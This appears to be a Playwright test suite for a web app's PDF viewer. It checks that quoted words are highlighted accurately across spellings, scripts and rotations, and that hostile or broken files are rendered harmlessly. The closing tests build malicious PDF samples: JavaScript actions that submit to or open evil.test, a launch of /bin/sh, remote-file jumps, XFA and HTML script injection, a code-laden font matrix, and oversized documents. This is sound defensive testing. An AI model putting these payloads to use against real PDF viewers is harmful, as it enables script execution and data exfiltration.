"""The pages of PDF files: the mark is right or absent, and a hostile file does nothing."""

from __future__ import annotations

import io
import re

import pytest
from PIL import Image
from playwright.sync_api import expect

from tests.page import world
from tests.page.papers import found, one_page, paper, show, stream
from tests.page.tab import Tab

FERRY = "The ferry sails at nine."
CONTENT = re.compile(r"\s+")


def letters(text: str) -> str:
    return CONTENT.sub("", text)


def test_a_cited_page_is_drawn_with_its_words_marked(tab: Tab) -> None:
    tab.cite(world.LANTERN)
    expect(tab.viewer.locator("[data-marked]")).to_have_attribute("data-marked", world.LANTERN_WORDS)
    expect(tab.viewer.get_by_role("group", name="Page 2")).to_be_visible()
    expect(tab.viewer.locator("#proof")).to_contain_text("lights.pdf, page 2")
    expect(tab.viewer.locator("#mark-note")).to_be_empty()
    expect(tab.viewer.get_by_text(world.LANTERN_WORDS)).to_be_in_viewport()


def test_the_mark_is_seen_at_its_words_and_nowhere_else(tab: Tab) -> None:
    drawn = show(tab, paper(["One line.", "Two lines.", "Three lines."]), "Two lines.")
    boxes = drawn["boxes"]
    marked = _yellow(tab)
    assert marked
    for x, y in marked:
        assert any(b["left"] - 2 <= x <= b["right"] + 2 and b["top"] - 2 <= y <= b["bottom"] + 2 for b in boxes)
    width = max(x for x, _ in marked) - min(x for x, _ in marked)
    assert abs(width - (boxes[0]["right"] - boxes[0]["left"])) < 4


def _yellow(tab: Tab) -> list[tuple[int, int]]:
    """Return the points of the screen that have the colour of the mark."""
    picture = Image.open(io.BytesIO(tab.page.screenshot())).convert("RGB")
    pixels = picture.load()
    assert pixels is not None
    every = ((x, y) for x in range(picture.width) for y in range(picture.height))
    return [(x, y) for x, y in every if (colour := pixels[x, y])[0] > 240 and colour[1] > 200 and colour[2] < 170]  # type: ignore[index]


def test_the_page_shows_its_letters(tab: Tab) -> None:
    show(tab, paper([FERRY]), FERRY)
    dark = tab.page.locator("#papers canvas").evaluate(
        "canvas => canvas.getContext('2d').getImageData(0, 0, canvas.width, canvas.height).data.filter((v, i) => i % 4 === 0 && v < 100).length"
    )
    assert dark > 100


@pytest.mark.parametrize(
    ("lines", "quote"),
    [
        (["The harbour mas-", "ter is away."], "The harbour master is away."),
        (["The well-", "known pilot is here."], "The well-known pilot is here."),
        (["Caf\u00e9 Skerry"], "Cafe\u0301 Skerry"),
        (["Fares  from", "   Tarn"], "Fares from\nTarn"),
        (["A fare 14.50 7.25"], "| A fare | 14.50 | 7.25 |"),
        (["Route Adult", "Tarn 14.50"], "| Route | Adult |\n|---|---|\n| Tarn | 14.50 |"),
    ],
    ids=["hyphen", "compound", "accent", "spaces", "row", "table"],
)
def test_words_are_marked_as_they_are_drawn(tab: Tab, lines: list[str], quote: str) -> None:
    marked = show(tab, paper(lines), quote)
    assert letters(marked["text"] or marked["note"]) == letters("".join(lines))


@pytest.mark.parametrize(
    ("texts", "quote", "parts"),
    [
        (["The of\ufb01ce has \ufb02oors."], "The office has floors.", ["The of\ufb01ce has \ufb02oors."]),
        (["Soft\u00adware is there."], "Software is there.", ["Soft\u00adware is there."]),
        (["\ufedf\ufee0\ufe9e\ufe8e\ufeae"], "للجار", ["\ufedf\ufee0\ufe9e\ufe8e\ufeae"]),
        (["البرمجة من األدوات القوية"], "من الأدوات القوية", ["من األدوات القوية"]),
        (["\x84 The boats\x84wait"], "\ufffd The boats \ufffd wait", ["The boats\x84wait"]),
        (["Gull ", "🦭", " Holm 🚢 here"], "Holm 🚢", ["Holm 🚢"]),
        (["−5 degrees"], "−5 degrees", ["−5 degrees"]),
    ],
    ids=["ligature", "soft hyphen", "forms of Arabic", "order of lam and alef", "not decoded", "emoji", "minus"],
)
def test_words_are_found_in_other_spellings(tab: Tab, texts: list[str], quote: str, parts: list[str]) -> None:
    assert found(tab, texts, quote) == parts


def test_words_that_stand_twice_are_told_apart_by_what_is_around_them(tab: Tab) -> None:
    lines = ["The pier is long.", "Closed on Sunday.", "The mole is short.", "Closed on Sunday.", "The quay is wide."]
    drawn = show(tab, paper(lines), "Closed on Sunday.", 1, "\n".join(lines[:3]), lines[4])
    assert drawn["marked"]
    first = show(tab, paper(lines), "Closed on Sunday.", 1, lines[0], "\n".join(lines[2:]))
    above, below = (each["boxes"][0]["top"] - each["top"] for each in (first, drawn))
    assert below - above > 20  # two lines of the page


@pytest.mark.parametrize(
    ("lines", "quote"),
    [
        (["Note: see the log.", "Note: see the log."], "Note: see the log."),
        (["The party is over."], "art"),
        (["The price is 2012 crowns."], "12"),
        (["The ferry sails at nine."], "The ferry sails at ten."),
        (["The ferry sails at nine."], "the ferry sails at nine."),
        (["\u2003"], "The ferry sails at nine."),
    ],
    ids=["twice", "in a word", "in a number", "other words", "other letters", "no text"],
)
def test_what_cannot_be_told_for_sure_is_not_marked(tab: Tab, lines: list[str], quote: str) -> None:
    drawn = show(tab, paper(lines), quote)
    assert (drawn["marked"], drawn["text"], drawn["boxes"]) == (False, None, [])
    assert drawn["note"]


def test_lines_that_are_drawn_in_another_order_are_marked_each(tab: Tab) -> None:
    drawn = show(
        tab, paper(["Second line here.", "Other line here.", "First line here."]), "First line here.\nSecond line here."
    )
    assert drawn["text"] == "First line here.Second line here."
    assert drawn["boxes"][0]["top"] > drawn["boxes"][1]["top"]


def test_a_quote_over_the_end_of_a_page_is_marked_on_both(tab: Tab) -> None:
    drawn = show(
        tab, paper(["Page one.", "The pilot boards"], ["at buoy nine.", "Page two."]), "The pilot boards\fat buoy nine."
    )
    assert drawn["text"] == "The pilot boardsat buoy nine."
    expect(tab.page.locator("#papers .pdf-page")).to_have_count(2)


@pytest.mark.parametrize("degrees", [90, 180, 270])
def test_a_turned_page_has_its_mark_at_the_words(tab: Tab, degrees: int) -> None:
    drawn = show(tab, one_page(page=f"/Rotate {degrees}"), FERRY)
    assert drawn["text"] == FERRY
    page = tab.page.locator("#papers .pdf-page").bounding_box()
    assert page
    for box in drawn["boxes"]:
        assert page["x"] <= box["left"] <= box["right"] <= page["x"] + page["width"]
        assert page["y"] <= box["top"] <= box["bottom"] <= page["y"] + page["height"]
    (box, *_) = drawn["boxes"]
    upright = degrees == 180
    assert (box["width"] > box["height"]) is upright


def test_the_pages_around_are_shown_when_they_are_asked_for(tab: Tab) -> None:
    tab.cite(world.LANTERN)
    tab.viewer.get_by_role("button", name="Show page 3").click()
    expect(tab.viewer.get_by_role("group", name="Page 3")).to_contain_text("The beacon is dark in summer.")
    tab.viewer.get_by_role("button", name="Show page 1").click()
    pages = tab.viewer.get_by_role("group", name=re.compile(r"^Page \d"))
    expect(pages).to_have_count(3)
    assert pages.evaluate_all("pages => pages.map((page) => page.ariaLabel)") == ["Page 1", "Page 2", "Page 3"]
    expect(tab.viewer.get_by_role("button", name=re.compile("Show page"))).to_have_count(0)


def test_page_and_text_can_be_changed(tab: Tab) -> None:
    tab.cite(world.LANTERN)
    expect(tab.viewer.locator("[data-marked]")).to_be_visible()
    tab.viewer.get_by_role("button", name="Text", exact=True).click()
    expect(tab.mark).to_have_text(world.LANTERN_WORDS)
    tab.viewer.get_by_role("button", name="Page", exact=True).click()
    expect(tab.viewer.locator("[data-marked]")).to_have_attribute("data-marked", world.LANTERN_WORDS)


def test_the_text_stays_when_it_is_chosen_while_the_page_is_on_its_way(tab: Tab) -> None:
    tab.cite(world.LANTERN)
    tab.viewer.get_by_role("button", name="Text", exact=True).click()
    tab.page.wait_for_timeout(1000)
    expect(tab.mark).to_have_text(world.LANTERN_WORDS)
    expect(tab.viewer.locator("[data-marked]")).to_have_count(0)


def test_a_page_that_is_asked_for_again_and_again_is_shown_once(tab: Tab) -> None:
    tab.cite(world.LANTERN)
    for _ in range(4):
        tab.viewer.get_by_role("button", name="Page", exact=True).click()
    expect(tab.viewer.locator("[data-marked]")).to_have_attribute("data-marked", world.LANTERN_WORDS)
    expect(tab.viewer.get_by_role("group", name="Page 2")).to_have_count(1)


def test_citations_that_are_opened_one_after_the_other_show_the_last(tab: Tab) -> None:
    tab.ask(world.LANTERN)
    for name in ("Open lights.pdf, page 2", "Open minutes.html", "Open lights.pdf, page 2"):
        tab.passages.get_by_role("button", name=name).first.evaluate("each => each.click()")
    expect(tab.viewer.locator("[data-marked]")).to_have_attribute("data-marked", world.LANTERN_WORDS)


def test_a_quote_that_cannot_be_marked_is_shown_as_text_with_a_word_why(tab: Tab) -> None:
    """The page has the words twice, and so has the text around them."""
    tab.ask(world.LANTERN)
    tab.page.route(
        "**/api/documents/*/file",
        lambda route: route.fulfill(body=paper(["Nothing."], ["Else."]), content_type="application/pdf"),
    )
    tab.citation.click()
    expect(tab.mark).to_have_text(world.LANTERN_WORDS)
    expect(tab.viewer.locator("#mark-note")).to_contain_text("not marked")


def test_a_document_from_the_list_opens_at_its_first_page_without_a_mark(tab: Tab) -> None:
    tab.go("Documents")
    tab.button("Open lights.pdf").click()
    expect(tab.viewer.get_by_role("group", name="Page 1")).to_be_visible()
    expect(tab.viewer.locator("[data-marked]")).to_have_count(0)
    expect(tab.viewer.locator("#mark-note")).to_be_empty()


def test_another_file_closes_the_one_before(tab: Tab) -> None:
    for number in range(4):
        drawn = show(tab, paper([f"Ferry {number} sails at nine."]), f"Ferry {number} sails at nine.")
        assert drawn["text"] == f"Ferry {number} sails at nine."
    expect(tab.page.locator("#papers .pdf-page")).to_have_count(1)
    assert len(tab.page.workers) == 1


SCRIPT = "app.alert('run'); this.submitForm('http://evil.test/'); app.launchURL('http://evil.test/');"
HOSTILE = {
    "script at opening": one_page(catalogue=f"/OpenAction << /S /JavaScript /JS ({SCRIPT}) >>"),
    "script of the page": one_page(page=f"/AA << /O << /S /JavaScript /JS ({SCRIPT}) >> >>"),
    "named scripts": one_page("/Names << /JavaScript << /Names [(a) 6 0 R] >> >>", "", "0 0 420 595", FERRY, f"<< /S /JavaScript /JS ({SCRIPT}) >>"),
    "launch": one_page(catalogue="/OpenAction << /S /Launch /F (/bin/sh) >>"),
    "address at opening": one_page(catalogue="/OpenAction << /S /URI /URI (http://evil.test/) >>"),
    "link": one_page("", "/Annots [6 0 R]", "0 0 420 595", FERRY, "<< /Type /Annot /Subtype /Link /Rect [0 0 420 595] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>"),
    "submitted form": one_page("/OpenAction << /S /SubmitForm /F (http://evil.test/) >>"),
    "remote file": one_page("/OpenAction << /S /GoToR /F (http://evil.test/a.pdf) /D [0 /Fit] >>"),
    "other stream": one_page("", "/Thumb 6 0 R", "0 0 420 595", FERRY, "<< /Length 0 /F (http://evil.test/image) >>\nstream\n\nendstream"),
    "forms of XFA": one_page("/AcroForm << /XFA 6 0 R >>", "", "0 0 420 595", FERRY, stream("<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>alert(1)</script></xdp:xdp>")),
    "names of HTML": one_page(text="<img src=x onerror=alert\\(1\\)><script>alert\\(2\\)</script>"),
    "font with code": one_page(text=FERRY).replace(b"/BaseFont /Helvetica", b"/BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); alert\\('run')]"),
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_attack_17_a_hostile_file_is_drawn_and_does_nothing(tab: Tab, name: str) -> None:
    expect(tab.question).to_be_visible()
    drawn = show(tab, HOSTILE[name], FERRY)
    assert drawn["marked"] or "<img" in HOSTILE[name].decode("latin-1")
    tab.page.locator("#papers .pdf-page").click(position={"x": 200, "y": 300})
    tab.page.wait_for_timeout(100)
    assert tab.page.url == f"{tab.server.url}/"
    assert len(tab.page.context.pages) == 1
    tab.check()


@pytest.mark.parametrize(
    "box",
    ["0 0 1000000 1000000", "0 0 1 14400", "0 0 14400 1", "0 0 0 0", "-1e30 -1e30 1e30 1e30"],
    ids=["huge", "high", "wide", "none", "endless"],
)
def test_attack_17_a_page_of_any_size_leaves_the_tab_alive(tab: Tab, box: str) -> None:
    show(tab, one_page(box=box), FERRY)
    pixels = tab.page.locator("#papers canvas").evaluate_all(
        "all => Math.max(0, ...all.map((each) => each.width * each.height))"
    )
    assert pixels <= 2**24 + 2**14
    tab.ask(world.MASTER)


def test_attack_17_a_file_of_very_many_objects_leaves_the_tab_alive(tab: Tab) -> None:
    many = (
        "BT /F 12 Tf 50 500 Td (The ferry sails at nine.) Tj ET\n" + "q 1 0 0 1 0 0 cm 10 10 m 20 20 l S Q\n" * 300_000
    )
    data = one_page().replace(b"BT /F 12 Tf 50 500 Td (The ferry sails at nine.) Tj ET", many.encode())
    data = re.sub(rb"/Length \d+ >>\nstream\nBT", f"/Length {len(many)} >>\nstream\nBT".encode(), data)
    drawn = show(tab, data, FERRY)
    assert drawn["marked"] or drawn["note"]
    tab.ask(world.MASTER)


@pytest.mark.parametrize(
    "data",
    [b"", b"not a PDF", b"%PDF-1.7\n" + b"1 0 obj << " * 2000, one_page()[:300]],
    ids=["empty", "text", "nested", "cut"],
)
def test_attack_17_a_broken_file_is_told(tab: Tab, data: bytes) -> None:
    drawn = show(tab, data, FERRY)
    assert drawn["marked"] or drawn["note"].startswith("The page cannot be drawn")
    again = show(tab, paper([FERRY]), FERRY)
    assert again["text"] == FERRY
